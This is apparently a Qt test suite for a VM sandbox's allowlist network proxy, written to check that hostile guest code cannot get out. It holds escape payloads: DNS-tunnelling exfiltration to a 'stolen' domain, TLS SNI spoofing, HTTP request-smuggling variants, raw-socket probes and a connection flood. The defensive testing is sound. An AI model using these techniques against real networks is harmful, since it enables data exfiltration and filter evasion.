// SPDX-License-Identifier: Apache-2.0
// What a hostile program in a real machine tries with the network, all of it with root's rights there.
#include "tests/live/app/chain_checks.h"
#include "tests/live/app/proxied_world.h"

#include <QTest>

#include <algorithm>

using namespace carrel::live;

namespace {

const QString kAgent = "ann";

} // namespace

class TestAttacksApp : public QObject {
    Q_OBJECT
private slots:
    void initTestCase();
    void cleanupTestCase();
    void whatIsNoTcpGoesNowhere();
    void namesCarryNothing();
    void tlsWithoutItsName();
    void requestsForSomebodyElse_data();
    void requestsForSomebodyElse();
    void aHostThatIsNotWhoItSays();
    void tenThousandConnections();

private:
    [[nodiscard]] bool allow(const QStringList& fields) const {
        return m_world->ask(QStringList{"rules", "add", "--allow", "--agent", kAgent, "--yes", "--action", "network"} + fields).contains("rule");
    }
    [[nodiscard]] bool cameToAnybody(const std::string& text) const {
        const auto requests = m_proxy.requests();
        const auto places = m_proxy.asked();
        const auto holds = [&](const std::string& each) { return each.find(text) != std::string::npos; };
        return std::ranges::any_of(requests, holds) || std::ranges::any_of(places, holds);
    }

    PlayedProxy m_proxy;
    std::unique_ptr<ChainWorld> m_world;
};

void TestAttacksApp::initTestCase() {
    if (const auto why = ChainWorld::whyNot(); !why.isEmpty()) {
        QSKIP(qPrintable(why));
    }
    QVERIFY(m_proxy.valid());
    m_world = worldBehind(m_proxy, kAgent);
    QVERIFY(m_world->prepare());
    QSTATUS(m_world->carrel({"create", kAgent, "--memory", "768"}), 0);
    QSTATUS(m_world->carrel({"start", kAgent}), 0);
    QSTATUS(m_world->carrel({"net", "mode", kAgent, "allowlist"}), 0);
    QVERIFY(allow({"--field", "host=web.example.org", "--field", "port=80"}));
    QVERIFY(allow({"--field", "host=tls.example.org", "--field", "port=443"}));
    QVERIFY(allow({"--field", "host=read.example.org", "--field", "port=443", "--field", "method=GET"}));
    QVERIFY(allow({"--field", "host=wrong.example.org", "--field", "port=443", "--field", "method=GET"}));
    QCOMPARE(m_world->carrel({"exec", kAgent, "--", "curl", "-sS", "http://web.example.org/"}).out, "here is web.example.org:80/\n"); // it works
}

void TestAttacksApp::cleanupTestCase() {
    if (m_world) {
        const auto left = m_world->end();
        QVERIFY2(left.isEmpty(), qPrintable(left));
    }
}

// Whatever the kernel there lets a program do, there is nothing that it could leave by.
void TestAttacksApp::whatIsNoTcpGoesNowhere() {
    const auto ran = m_world->python(R"(
import socket, os
def tries(what, act):
    try:
        print(what, act())
    except OSError as error:
        print(what, "refused")
def raw():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("203.0.113.9", 0))
    return "sent"
def packet():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)
    names = [name for _i, name in socket.if_nameindex()]
    return "devices " + ",".join(sorted(names))
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("203.0.113.9", 443)); s.send(b"quic"); s.settimeout(20)
    return s.recv(10)
def six():
    s = socket.create_connection(("2001:db8::9", 443), 30); s.settimeout(30)
    s.send(b"x" * 100)
    return "gone" if s.recv(10) == b"" else "answered"
tries("raw", raw); tries("packet", packet); tries("udp", udp); tries("six", six)
)");
    QSTATUS(ran, 0);
    QVERIFY2(ran.out.contains("udp refused") && !ran.out.contains("answered"), ran.all().constData());
    QVERIFY2(ran.out.contains("packet refused") || ran.out.contains("packet devices dummy0,lo"), ran.all().constData());
    QVERIFY(!cameToAnybody("203.0.113.9") && !cameToAnybody("2001:db8"));
}

void TestAttacksApp::namesCarryNothing() {
    const auto ran = m_world->python(R"(
import socket
for i in range(300):
    try:
        socket.getaddrinfo("secret-%d.stolen.example.org" % i, 443)
    except OSError:
        pass
query = b"\0\1\1\0\0\1\0\0\0\0\0\0" + b"\6secret\6stolen\7example\3org\0" + b"\0\x10\0\1"
for to in ("203.0.113.53", "192.0.2.1", "127.0.0.53"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20)
    try:
        s.connect((to, 53)); s.send(query)
        answer = s.recv(512)
        print(to, "records", int.from_bytes(answer[6:8], "big"))
    except OSError:
        print(to, "refused")
)");
    QSTATUS(ran, 0);
    QVERIFY2(!ran.out.contains("records 1"), ran.all().constData());
    QVERIFY(!cameToAnybody("stolen"));
}

void TestAttacksApp::tlsWithoutItsName() {
    const auto said = [&](const QString& host, const QString& name, const QString& path) {
        return m_world->shell("printf 'GET " + path + " HTTP/1.1\\r\\nHost: " + host + "\\r\\nConnection: close\\r\\n\\r\\n' | timeout 60 openssl s_client -quiet -connect " + host +
                              ":443 " + name + " 2>&1");
    };
    for (const QString& host : {QString("tls.example.org"), QString("read.example.org")}) {
        const auto with = said(host, "-servername " + host, "/named");
        QVERIFY2(with.out.contains("HTTP/1.1 200"), with.all().constData()); // so it would be seen
        for (const QString& name : {QString("-noservername"), QString("-servername evil.example.org")}) {
            const auto ran = said(host, name, "/unnamed");
            QVERIFY2(!ran.out.contains("HTTP/1.1 200"), ran.all().constData());
        }
    }
    QVERIFY(cameToAnybody("GET /named") && !cameToAnybody("GET /unnamed"));
}

void TestAttacksApp::requestsForSomebodyElse_data() {
    QTest::addColumn<QByteArray>("request");
    const auto row = [](const char* name, const char* text) { QTest::newRow(name) << QByteArray(text); };
    row("in good order", "GET /good HTTP/1.1\\r\\nHost: web.example.org\\r\\nConnection: close\\r\\n\\r\\n");
    row("another host", "GET /evil HTTP/1.1\\r\\nHost: evil.example.org\\r\\n\\r\\n");
    row("both lengths", "POST /evil HTTP/1.1\\r\\nHost: web.example.org\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nX");
    row("obs-fold", "GET /evil HTTP/1.1\\r\\nHost: web.example.org\\r\\nX: a\\r\\n Host: evil.example.org\\r\\n\\r\\n");
    row("bare LF", "GET /evil HTTP/1.1\\nHost: web.example.org\\n\\n");
    row("HTTP/2 by prior knowledge", "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\nevil");
    row("connect", "CONNECT evil.example.org:80 HTTP/1.1\\r\\nHost: web.example.org\\r\\n\\r\\n");
    row("no HTTP", "SSH-2.0-evil\\r\\n");
}
void TestAttacksApp::requestsForSomebodyElse() {
    QFETCH(QByteArray, request);
    const auto ran = m_world->python("import socket\ns = socket.create_connection((\"web.example.org\", 80), 60)\ns.settimeout(60)\ns.sendall(b\"" + request +
                                     "\")\ns.shutdown(socket.SHUT_WR)\nanswer = b\"\"\ntry:\n    while piece := s.recv(4096): answer += piece\nexcept OSError:\n    pass\n"
                                     "print(answer.split(b\"\\r\\n\")[0])\n");
    QSTATUS(ran, 0);
    const bool isGood = request.startsWith("GET /good");
    QVERIFY2(ran.out.contains(" 200 ") == isGood, ran.all().constData());
    QVERIFY(!cameToAnybody("evil") && (!isGood || cameToAnybody("/good")));
}

void TestAttacksApp::aHostThatIsNotWhoItSays() {
    const auto ran = m_world->carrel({"exec", kAgent, "--", "curl", "-sS", "-w", "%{http_code}", "https://wrong.example.org/secret"});
    QVERIFY2(ran.out.endsWith("502") && ran.out.contains("wrong.example.org"), ran.all().constData());
    QVERIFY(!cameToAnybody("GET /secret"));
}

// As many as it has descriptors for, over and over: it is bounded, and what is allowed goes on when they are gone.
void TestAttacksApp::tenThousandConnections() {
    const auto ran = m_world->python(R"(
import socket
refused = 0
for turn in range(20):
    held = []
    for i in range(500):
        s = socket.socket(); s.setblocking(False)
        try:
            s.connect(("198.51.100.%d" % (i % 250 + 1), 80))
        except BlockingIOError:
            held.append(s)
        except OSError:
            refused += 1
    for s in held: s.close()
print("done")
)");
    QVERIFY2(ran.out.contains("done"), ran.all().constData());
    QVERIFY(!cameToAnybody("198.51.100"));
    const auto after = m_world->carrel({"exec", kAgent, "--", "curl", "-sS", "--retry", "20", "--retry-all-errors", "--max-time", "80", "http://web.example.org/after"});
    QCOMPARE(after.out, "here is web.example.org:80/after\n");
}

QTEST_GUILESS_MAIN(TestAttacksApp)
#include "test_attacks_app.moc"
